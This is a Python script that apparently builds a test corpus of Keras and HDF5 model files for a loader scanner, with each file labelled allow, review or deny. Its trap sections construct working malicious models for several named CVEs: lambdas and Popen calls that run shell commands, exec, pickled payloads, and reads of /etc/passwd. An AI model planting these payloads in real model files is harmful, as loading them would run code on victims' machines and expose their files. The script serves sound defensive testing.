"""Keras: models, weights and configurations, as Keras 3 and tf_keras (Keras 2) write them, and the attacks on their loaders.

python test/corpus/build/keras_files.py     needs keras, tensorflow, tf_keras, h5py
"""

import base64
import copy
import io
import json
import os
import pickle
import tempfile
import zipfile
from pathlib import Path

os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "3")

import h5py
import keras
import numpy as np
import tensorflow as tf
import tf_keras

from corpus import Trap, sample, shell

layers = keras.layers
LIBRARIES = ("keras", "tensorflow-cpu", "h5py")
keras.utils.set_random_seed(7)


def saved(model, ending, save=None):
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / f"model{ending}"
        (save or model.save)(path)
        return path.read_bytes()


def small():
    return keras.Sequential([keras.Input((3,)), layers.Dense(2, activation="relu", name="first"), layers.Dense(1)])


def functional():
    words = keras.Input((4,), dtype="int32", name="words")
    other = keras.Input((4, 3), name="other")
    embedded = layers.Embedding(7, 3)(words)
    attended = layers.MultiHeadAttention(1, 2)(embedded, other)
    merged = keras.ops.concatenate([attended * 2.0, keras.ops.relu(other) + 1], axis=-1)
    state = layers.Bidirectional(layers.LSTM(2))(merged)
    outputs = {"class": layers.Dense(2, kernel_regularizer="l2")(state), "value": keras.ops.sum(state, axis=-1)}
    return keras.Model([words, other], outputs)


def images():
    inner = keras.Sequential([layers.Conv2D(2, 3), layers.BatchNormalization(), layers.ReLU()], name="inner")
    model = keras.Sequential(
        [keras.Input((8, 8, 1)), layers.Rescaling(1 / 255), layers.RandomFlip(), inner, layers.GlobalAveragePooling2D(), layers.Dropout(0.5), layers.Dense(2)]
    )
    schedule = keras.optimizers.schedules.CosineDecay(0.1, 100)
    model.compile(keras.optimizers.AdamW(schedule), keras.losses.SparseCategoricalCrossentropy(from_logits=True), [keras.metrics.SparseCategoricalAccuracy(), "mse"])
    return model


def preprocessing():
    words = keras.Input((1,), dtype="string")
    known = layers.StringLookup(vocabulary=["one", "two"], output_mode="one_hot")(words)
    numbers = keras.Input((2,))
    normal = layers.Normalization(mean=[0.0, 1.0], variance=[1.0, 2.0])(numbers)
    return keras.Model([words, numbers], layers.Concatenate()([known, normal]))


def elsewhere(function):
    """Marshalled code holds the path of its source, in base64."""
    function.__code__ = function.__code__.replace(co_filename="/home/someone/models/train.py")
    return function


@keras.saving.register_keras_serializable("acme")
class Scale(layers.Layer):
    def call(self, inputs):
        return inputs * 2


@keras.saving.register_keras_serializable("acme")
class Net(keras.Model):
    def __init__(self, **options):
        super().__init__(**options)
        self.dense = layers.Dense(2)

    def call(self, inputs):
        return self.dense(inputs)


def honest():
    for name, model, note in (
        ("sequential", small(), "two dense layers"),
        ("functional", functional(), "several inputs and outputs, operations in the graph, attention, a recurrent layer"),
        ("images", images(), "convolutions, a nested model, augmentation; compiled with a schedule, losses and metrics"),
        ("preprocessing", preprocessing(), "a vocabulary under assets/"),
    ):
        sample("keras", f"{name}.keras", saved(model, ".keras"), "allow", note, *LIBRARIES)
    mixed = keras.Sequential([keras.Input((3,)), layers.Dense(2, dtype="mixed_bfloat16"), layers.Dense(2, dtype="bfloat16")])
    sample("keras", "bfloat16.keras", saved(mixed, ".keras"), "allow", "weights in bfloat16", *LIBRARIES)
    scaled = keras.Sequential([keras.Input((3,)), Scale()])
    sample("keras", "registered-layer.keras", saved(scaled, ".keras"), "review", "acme>Scale comes with the loading program", *LIBRARIES)
    net = Net()
    net(np.zeros((1, 3)))
    sample("keras", "subclassed.keras", saved(net, ".keras"), "review", "acme>Net comes with the loading program", *LIBRARIES)
    sample("keras-h5", "sequential.h5", saved(compiled(small()), ".h5"), "allow", "the older format, compiled", *LIBRARIES)
    weights = small()
    sample("keras-h5", "sequential.weights.h5", saved(weights, ".weights.h5", weights.save_weights), "allow", "weights alone", *LIBRARIES)
    sample("keras-config", "functional.json", functional().to_json().encode(), "allow", "a model without weights", *LIBRARIES)


def compiled(model):
    model.compile("adam", "mse", metrics=["mae"])
    return model


def older():
    model = tf_keras.Sequential(
        [tf_keras.Input((3,)), tf_keras.layers.Dense(2, activation="relu"), tf_keras.layers.BatchNormalization(), tf_keras.layers.Dense(1)]
    )
    model.compile(tf_keras.optimizers.Adam(), "mse", metrics=["mae"])
    model.fit(np.zeros((2, 3)), np.zeros((2, 1)), verbose=0)
    sample("keras-h5", "keras-2.h5", saved(model, ".h5"), "allow", "Keras 2, with the state of the optimizer", "tf_keras", "tensorflow-cpu")
    sample("keras", "keras-2.keras", saved(model, ".keras"), "allow", "Keras 2", "tf_keras", "tensorflow-cpu")
    inputs = tf_keras.Input((3,))
    graph = tf_keras.Model(inputs, tf.math.sin(tf.reshape(inputs, (-1, 3))[:, 1:] * 2.0))
    sample("keras-h5", "keras-2-operations.h5", saved(graph, ".h5"), "allow", "calls of TensorFlow as layers", "tf_keras", "tensorflow-cpu")
    lambdas = tf_keras.Sequential([tf_keras.Input((3,)), tf_keras.layers.Lambda(elsewhere(lambda x: x + 1), name="plus")])
    sample("keras-h5", "keras-2-lambda.h5", saved(lambdas, ".h5"), "deny", "a lambda of Keras 2, as marshalled code", "tf_keras", "tensorflow-cpu")

    class Odd(tf_keras.layers.Layer):
        def call(self, inputs):
            return inputs

    odd = tf_keras.Sequential([tf_keras.Input((3,)), Odd()])
    sample("keras-h5", "keras-2-custom.h5", saved(odd, ".h5"), "review", "a class that the program must bring", "tf_keras", "tensorflow-cpu")


def edited(data, change, drop=()):
    """The archive of a saved model with another configuration; packed, because traps need no room."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for entry in old.infolist():
            if entry.filename in drop:
                continue
            content = old.read(entry)
            if entry.filename == "config.json":
                content = change(json.loads(content))
                content = content.encode() if isinstance(content, str) else json.dumps(content).encode()
            new.writestr(zipfile.ZipInfo(entry.filename), content, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def with_layer(layer):
    def change(config):
        config["config"]["layers"].append(copy.deepcopy(layer))
        return config

    return change


def function(module, name):
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


def lambda_layer(of, **options):
    return {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": {"name": "layer", "trainable": True, "function": of, "arguments": {}, **options},
        "registered_name": None,
        "build_config": {"input_shape": [None, 1]},
    }


def traps():
    base = saved(small(), ".keras")

    def trap(name, change, decision, note, drop=(), container=None):
        sample("keras", f"{name}.keras", edited(base, change, drop), decision, note, *LIBRARIES, container=container)

    command = shell("keras")
    lambdas = keras.Sequential([keras.Input((3,)), layers.Lambda(elsewhere(lambda x: (__import__("os").system(command), x)[1]), output_shape=(3,))])
    sample("keras", "lambda.keras", saved(lambdas, ".keras"), "deny", "CVE-2024-3660: a lambda that runs a command", *LIBRARIES)
    sample("keras-h5", "lambda.h5", saved(lambdas, ".h5"), "deny", "CVE-2025-9905: safe_mode does not hold for this format", *LIBRARIES)
    trap("cve-2025-1550", with_layer(lambda_layer(function("os", "system"), arguments={"command": command})), "deny", "a function of any module")
    trap("cve-2025-1550-class", with_layer({"module": "subprocess", "class_name": "Popen", "config": {"args": command, "shell": True}, "registered_name": "Popen"}), "deny", "a class of any module")
    trap("cve-2025-1550-builtins", with_layer(lambda_layer(function("builtins", "exec"))), "deny", "a builtin function")
    fetched = {"fname": "x.tar", "origin": "file:///tmp/x.tar", "extract": True, "cache_dir": "/tmp"}
    trap("cve-2025-8747", with_layer(lambda_layer(function("keras.utils", "get_file"), arguments=fetched)), "deny", "get_file fetches and unpacks (and CVE-2025-12060)")
    trap("cve-2025-9906", with_layer(lambda_layer(function("keras.config", "enable_unsafe_deserialization"))), "deny", "turns off the safe mode")
    wrapped = {"name": "t", "module": base64.b64encode(pickle.dumps(Trap("keras-torch"))).decode(), "output_shape": None}
    trap("cve-2025-49655", with_layer({"module": "keras.layers", "class_name": "TorchModuleWrapper", "config": wrapped, "registered_name": None}), "deny", "a pickle in the configuration")
    lookup = {"name": "words", "vocabulary": "/etc/passwd", "max_tokens": None}
    trap("cve-2025-12058", with_layer({"module": "keras.layers", "class_name": "StringLookup", "config": lookup, "registered_name": None}), "deny", "a vocabulary from any file")
    saved_model = {"name": "t", "filepath": "saved_model", "call_endpoint": "serve"}
    trap("tfsm-layer", with_layer({"module": "keras.layers", "class_name": "TFSMLayer", "config": saved_model, "registered_name": None}), "review", "runs a SavedModel beside the file")
    trap("load-model", with_layer(lambda_layer(function("keras.src.saving.saving_api", "load_model"), arguments={"filepath": "x.h5", "safe_mode": False})), "deny", "loads another model without safe mode")
    compiled_with = {"optimizer": "adam", "loss": {"class_name": "__lambda__", "config": {"value": [base64.b64encode(b"\xe3\0").decode(), None, None]}}}
    trap("lambda-loss", lambda config: {**config, "compile_config": compiled_with}, "deny", "a lambda where nobody looks for one")
    hidden = json.dumps({"class_name": "function", "module": "os", "config": "system", "registered_name": "system"})
    trap("config-in-a-text", with_layer({"module": "keras.layers", "class_name": "Dense", "config": {"units": 1, "kernel_initializer": hidden}, "registered_name": None}), "deny", "a configuration inside of a text")
    trap("two-modules", lambda config: json.dumps(config).replace('"module": "keras"', '"module": "os", "module": "keras"', 1), "review", "the same key twice")
    trap("padded", lambda config: " " * 5000 + json.dumps(with_layer(lambda_layer(function("os", "system")))(config)), "deny", "blanks in front of the configuration")
    trap("without-weights", with_layer(lambda_layer(function("os", "system"))), "deny", "the configuration is enough", drop=("model.weights.h5", "metadata.json"), container="zip")
    arrays = io.BytesIO()
    np.savez(arrays, **{"layers/first/vars/0": np.array([Trap("keras-npz")], dtype=object)})
    packed = edited(base, lambda config: config, drop=("model.weights.h5",))
    out = io.BytesIO(packed)
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("model.weights.npz", arrays.getvalue())
    sample("keras", "pickle-in-weights.keras", out.getvalue(), "deny", "an array of objects among the weights", *LIBRARIES)
    sample("keras-config", "function.json", json.dumps(with_layer(lambda_layer(function("os", "system")))(json.loads(small().to_json()))).encode(), "deny", "a model without weights", *LIBRARIES)


def changed(data, change):
    file = io.BytesIO(data)
    with h5py.File(file, "r+") as h5:
        change(h5)
    return file.getvalue()


def h5_traps():
    base = saved(keras.Sequential([keras.Input((3,)), layers.Dense(2, name="first")]), ".h5")

    def trap(name, change, decision, note):
        sample("keras-h5", name, changed(base, change), decision, note, *LIBRARIES)

    def weights(h5, **options):
        [first] = [name for name in flat(h5) if name.endswith("first/bias")]
        del h5[first]
        return h5.create_dataset(first, (2,), "f4", **options)

    trap("external-data.h5", lambda h5: weights(h5, external=[("/etc/passwd", 0, 8)]), "deny", "weights are read from any file of the machine")
    trap("external-beside.h5", lambda h5: weights(h5, external=[("weights.raw", 0, 8)]), "review", "weights are read from another file")

    def link(h5):
        h5["model_weights/other"] = h5py.ExternalLink("../other.h5", "/model_weights")

    trap("external-link.h5", link, "deny", "a part of the model lies in the folder above")
    trap("shape-bomb.h5", lambda h5: h5.create_dataset("model_weights/big", (2**40,), "f4", chunks=(2**20,), compression="gzip"), "review", "four terabytes of nothing")

    def attribute(h5):
        h5.attrs["notes"] = np.void(pickle.dumps(Trap("keras-h5")))

    trap("pickle-attribute.h5", attribute, "deny", "a pickle among the attributes")

    def operation(h5):
        config = json.loads(h5.attrs["model_config"])
        config["config"]["layers"].append({"class_name": "TFOpLambda", "config": {"name": "w", "function": "io.write_file"}})
        h5.attrs["model_config"] = json.dumps(config)

    trap("write-file.h5", operation, "deny", "a layer that calls tf.io.write_file")


def flat(h5):
    names = []
    h5.visititems(lambda name, item: names.append(name) if isinstance(item, h5py.Dataset) else None)
    return names


honest()
older()
traps()
h5_traps()
